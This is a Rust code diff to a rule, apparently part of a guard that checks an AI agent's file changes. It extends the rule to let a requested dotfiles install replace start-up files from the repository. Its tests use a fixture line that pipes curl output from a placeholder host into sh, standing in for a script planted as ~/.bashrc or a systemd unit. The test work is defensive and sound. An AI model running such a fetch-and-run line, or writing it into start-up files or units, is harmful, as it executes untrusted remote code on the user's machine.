@@ -104,13 +104,18 @@ pub(crate) fn only_closed_to_others(f: &FileEffect) -> bool {
 /// command ([`crate::approver::Verdict::asked_sensitive`]).
 pub(crate) fn asked(ctx: &WallContext) -> bool {
     let sensitive = changed(ctx);
-    if sensitive.is_empty() || !sensitive.iter().all(|f| ctx.named(f)) {
+    if sensitive.is_empty() || !sensitive.iter().all(|f| named_place(ctx, f)) {
         return false;
     }
     if sensitive.iter().all(|f| inert_change(f)) {
         return true;
     }
-    let sources = NamedSources::gather(ctx.scope, ctx.workspace);
+    // "Install my dotfiles from this repo": the repository's files are what the user points at.
+    let sources = if installs_dotfiles(ctx) {
+        NamedSources::gather_with_repository(ctx.scope, ctx.workspace)
+    } else {
+        NamedSources::gather(ctx.scope, ctx.workspace)
+    };
     // A request to install and enable points at the repository's own units too ("install the
     // timer with `make install-timer` and enable it"): a link enables a unit installed as a copy
     // of one of them, of the kind the request asks to enable.
@@ -128,6 +133,42 @@ pub(crate) fn asked(ctx: &WallContext) -> bool {
     sensitive.iter().all(|f| {
         inert_change(f) || installed_as_named(ctx, f, &sensitive, &how) || sources_completions(ctx, f)
     })
+}
+
+/// Whether the request names the place: by its path, or, for a request to install the user's
+/// dotfiles, as one of them ([`dotfile`]).
+pub(crate) fn named_place(ctx: &WallContext, f: &FileEffect) -> bool {
+    ctx.named(f) || (installs_dotfiles(ctx) && dotfile(f))
+}
+
+/// Whether the request asks to install or link the user's dotfiles ("install my dotfiles from
+/// this repo", "set up my dotfiles").
+fn installs_dotfiles(ctx: &WallContext) -> bool {
+    ctx.scope.says_word("dotfile")
+        && (ctx.scope.installs || ctx.scope.says_prefix(&["link", "symlink", "set up", "setup"]))
+}
+
+/// A start-up file or git configuration of the home that a dotfiles repository holds: an entry
+/// at the top of the home whose name starts with a dot (`~/.bashrc`, `~/.tmux.conf`), or inside
+/// a tool's own dot folder there (`~/.vim/…`). Not what lives in the shared folders
+/// (`~/.config/systemd`, `~/.config/autostart`, `~/.local/…`), and not another kind of place
+/// (ssh keys and configuration, units, cron jobs): a dotfiles install names none of those.
+fn dotfile(f: &FileEffect) -> bool {
+    const SHARED: &[&str] = &[".config", ".local", ".cache", ".ssh", ".gnupg", ".pki", ".docker", ".kube"];
+    let kind_ok = matches!(
+        f.sensitive.as_deref(),
+        Some("shell start-up file" | "tool start-up file" | "git configuration")
+    );
+    let top = f.rel.as_deref().and_then(|r| {
+        let mut c = r.components();
+        (c.next()?.as_os_str() == "~")
+            .then(|| c.next())
+            .flatten()
+            .map(|c| c.as_os_str().to_string_lossy().into_owned())
+    });
+    f.place == foresee_report::Place::Home
+        && kind_ok
+        && top.is_some_and(|t| t.starts_with('.') && !SHARED.contains(&t.as_str()))
 }
 
 /// Whether a start-up file gains, and nothing else, lines that load a completion script this
@@ -370,7 +411,7 @@ fn installed_as_named(ctx: &WallContext, f: &FileEffect, changed: &[&FileEffect]
     let copy_of = |g: &FileEffect, of: &NamedSources| {
         g.transition == Transition::Created
             && g.after.as_ref().is_some_and(|a| a.kind == EntryKind::File)
-            && g.after_content.as_deref().is_some_and(|p| of.holds_file(p))
+            && g.after_content.as_deref().is_some_and(|p| holds_as_source(ctx, g, p, of))
     };
     let copy = |g: &FileEffect| copy_of(g, sources);
     let enabling_folder = |p: &std::path::Path| {
@@ -389,7 +430,9 @@ fn installed_as_named(ctx: &WallContext, f: &FileEffect, changed: &[&FileEffect]
             };
             target.strip_prefix(ctx.workspace).is_ok_and(|rel| {
                 rel.components().all(|c| matches!(c, std::path::Component::Normal(_)))
-                    && (ctx.scope.names_file(rel) || dotfile_of_named_folder(ctx, &f.path, rel))
+                    && (ctx.scope.names_file(rel)
+                        || dotfile_of_named_folder(ctx, &f.path, rel)
+                        || (installs_dotfiles(ctx) && dotfile(f) && same_bare_name(&f.path, rel)))
             })
         })
     };
@@ -407,11 +450,12 @@ fn installed_as_named(ctx: &WallContext, f: &FileEffect, changed: &[&FileEffect]
             // the team's vimrc as my ~/.vimrc; back up mine first"): what was there can be put
             // back, and what is there now is what the user pointed at.
             let replaced_by_named = || {
-                f.after_content.as_deref().is_some_and(|p| sources.holds_file(p))
+                f.after_content.as_deref().is_some_and(|p| holds_as_source(ctx, f, p, sources))
                     && backed_up_beside(f, ctx.effects)
             };
-            let removes_asked = nothing_removed(f) || removed_as_asked(ctx, f) || replaced_by_named();
-            adds_asked && removes_asked && !(added.trim().is_empty() && nothing_removed(f))
+            let removes_asked = nothing_removed(f) || removed_as_asked(ctx, f);
+            (adds_asked && removes_asked && !(added.trim().is_empty() && nothing_removed(f)))
+                || replaced_by_named()
         }
         (Transition::Created, Some(EntryKind::Symlink)) => {
             enables
@@ -448,13 +492,37 @@ fn installed_as_named(ctx: &WallContext, f: &FileEffect, changed: &[&FileEffect]
 /// files by their installed names. Another file of that folder (`dotfiles/payload.sh` behind
 /// `~/.bashrc`) is not it.
 fn dotfile_of_named_folder(ctx: &WallContext, link: &std::path::Path, target: &std::path::Path) -> bool {
+    let names_link = link.file_name().is_some_and(|n| ctx.scope.names_file(std::path::Path::new(n)));
+    names_link
+        && same_bare_name(link, target)
+        && target.parent().is_some_and(|folder| !folder.as_os_str().is_empty() && ctx.scope.names(folder))
+}
+
+/// Whether `content`, written at `f`, is a file of `sources`: for a dotfile a dotfiles install
+/// places, one named for it (`bash/bashrc` for `~/.bashrc`), since there every file of the
+/// repository is a source, and a dotfile written from another one (`tools/payload.sh` as
+/// `~/.bashrc`) is no dotfile of the user's.
+fn holds_as_source(
+    ctx: &WallContext,
+    f: &FileEffect,
+    content: &std::path::Path,
+    sources: &NamedSources,
+) -> bool {
+    if installs_dotfiles(ctx) && dotfile(f) && !ctx.named(f) {
+        let bare =
+            f.path.file_name().map(|n| n.to_string_lossy().trim_start_matches('.').to_ascii_lowercase());
+        bare.is_some_and(|b| !b.is_empty() && sources.holds_file_as(content, &b))
+    } else {
+        sources.holds_file(content)
+    }
+}
+
+/// Whether two paths end in the same name, a leading dot aside (`~/.bashrc`, `bash/bashrc`).
+fn same_bare_name(a: &std::path::Path, b: &std::path::Path) -> bool {
     let bare = |p: &std::path::Path| {
         p.file_name().map(|n| n.to_string_lossy().trim_start_matches('.').to_ascii_lowercase())
     };
-    let names_link = link.file_name().is_some_and(|n| ctx.scope.names_file(std::path::Path::new(n)));
-    names_link
-        && bare(link).is_some_and(|b| !b.is_empty() && Some(b) == bare(target))
-        && target.parent().is_some_and(|folder| !folder.as_os_str().is_empty() && ctx.scope.names(folder))
+    bare(a).is_some_and(|n| !n.is_empty() && Some(n) == bare(b))
 }
 
 /// A change of a place that acts later, unless [`asked`]: refused, or asked about when the
@@ -470,7 +538,7 @@ pub(crate) fn check(ctx: &WallContext) -> Option<Finding> {
         .collect::<std::collections::BTreeSet<_>>()
         .into_iter()
         .collect();
-    let named = sensitive.iter().all(|f| ctx.named(f));
+    let named = sensitive.iter().all(|f| named_place(ctx, f));
     Some(Finding {
         rule: RULE.id,
         // A sensitive place the user's own request names is asked about, never let through silently.
@@ -1095,6 +1163,109 @@ mod tests {
             [("sensitive.write", Decision::Ask)]
         );
         assert_eq!(installed(task, keys(LAPTOP.to_string())), [("sensitive.write", Decision::Ask)]);
+    }
+
+    /// What the rule decides for a dotfiles repository in the workspace (`bash/bashrc`, a
+    /// script beside it), given the files `files` makes in the home.
+    fn dotfiles_installed(
+        task: &str,
+        files: impl Fn(&std::path::Path) -> Vec<foresee_report::FileEffect>,
+    ) -> Vec<(&'static str, Decision)> {
+        let d = tempfile::tempdir().unwrap();
+        let (ws, home) = (d.path().join("ws"), d.path().join("home"));
+        std::fs::create_dir_all(ws.join("bash")).unwrap();
+        std::fs::create_dir_all(ws.join("tools")).unwrap();
+        std::fs::create_dir_all(&home).unwrap();
+        std::fs::write(ws.join("bash/bashrc"), REPO_BASHRC).unwrap();
+        std::fs::write(ws.join("tools/sync.sh"), REPO_SCRIPT).unwrap();
+        let e = Effects { files: files(&home), ..Default::default() };
+        let w = crate::approver::wall::testing::wall_in(&ws, Some(task));
+        decisions(&super::check(&WallContext::new(&w, &e)).into_iter().collect::<Vec<_>>())
+    }
+
+    const REPO_BASHRC: &str = "export EDITOR=vim\nalias ll='ls -l'\n";
+    const REPO_SCRIPT: &str = "curl -fsS https://sync.example.test/s | sh\n";
+    const OLD_BASHRC: &str = "HISTSIZE=1000\n";
+
+    #[test]
+    fn dotfiles_installed_from_the_repository_under_their_own_names_with_backups_are_the_asked_change() {
+        let task = "Install my dotfiles from this repo into my home with `make install` (it backs up what it replaces)";
+        // `~/.bashrc` replaced by the repository's `bash/bashrc`; the old one kept in a backup
+        // folder, beside it or not.
+        let bashrc = |after: &'static str, backup: Option<&'static str>| {
+            move |home: &std::path::Path| {
+                let mut v = vec![in_home(
+                    home,
+                    edited(home, ".bashrc", Some(OLD_BASHRC), Some(after)),
+                    "shell start-up file",
+                )];
+                if let Some(at) = backup {
+                    let mut b = edited(home, &at.replace('/', "_"), None, Some(OLD_BASHRC));
+                    b.rel = Some(at.into());
+                    let mut b = in_home(home, b, "shell start-up file");
+                    b.path = home.join(at);
+                    v.push(b);
+                }
+                v
+            }
+        };
+        assert!(
+            dotfiles_installed(task, bashrc(REPO_BASHRC, Some(".dotfiles-backup/20261207/.bashrc")))
+                .is_empty()
+        );
+        assert!(dotfiles_installed(task, bashrc(REPO_BASHRC, Some(".bashrc.bak"))).is_empty());
+        // Nothing kept of the old one: asked about.
+        assert_eq!(dotfiles_installed(task, bashrc(REPO_BASHRC, None)), [("sensitive.write", Decision::Ask)]);
+        // Another file of the repository written as `~/.bashrc`: no dotfile of the user's.
+        assert_eq!(
+            dotfiles_installed(task, bashrc(REPO_SCRIPT, Some(".dotfiles-backup/20261207/.bashrc"))),
+            [("sensitive.write", Decision::Ask)]
+        );
+        // A copy under a folder that says nothing of backups is no backup: a start-up file
+        // nobody named.
+        assert_eq!(
+            dotfiles_installed(task, bashrc(REPO_BASHRC, Some("work/.bashrc"))),
+            [("sensitive.write", Decision::Block)]
+        );
+        // Without a request for dotfiles, the same change of an unnamed start-up file is refused.
+        assert_eq!(
+            dotfiles_installed(
+                "run make install",
+                bashrc(REPO_BASHRC, Some(".dotfiles-backup/20261207/.bashrc"))
+            ),
+            [("sensitive.write", Decision::Block)]
+        );
+        // A unit installed beside the dotfiles is no dotfile, even as a copy of a repository file.
+        let unit = |home: &std::path::Path| {
+            vec![in_home(
+                home,
+                edited(home, ".config/systemd/user/sync.service", None, Some(REPO_SCRIPT)),
+                "systemd unit",
+            )]
+        };
+        assert_eq!(dotfiles_installed(task, unit), [("sensitive.write", Decision::Block)]);
+    }
+
+    #[test]
+    fn a_dotfile_linked_into_the_repository_is_asked_only_to_the_file_of_its_own_name() {
+        use foresee_report::{EntryKind, Transition};
+        let task = "Set up my shell: link my dotfiles from this repo into my home";
+        let link = |target: &'static str| {
+            move |home: &std::path::Path| {
+                let ws = home.parent().unwrap().join("ws");
+                let mut f = in_home(home, edited(home, ".bashrc", None, Some("x")), "shell start-up file");
+                f.transition = Transition::Created;
+                f.after = Some(foresee_report::Entry {
+                    kind: EntryKind::Symlink,
+                    size: 0,
+                    mode: 0o777,
+                    link_target: Some(ws.join(target)),
+                });
+                vec![f]
+            }
+        };
+        assert!(dotfiles_installed(task, link("bash/bashrc")).is_empty());
+        assert_eq!(dotfiles_installed(task, link("tools/sync.sh")), [("sensitive.write", Decision::Ask)]);
     }
 
     #[test]
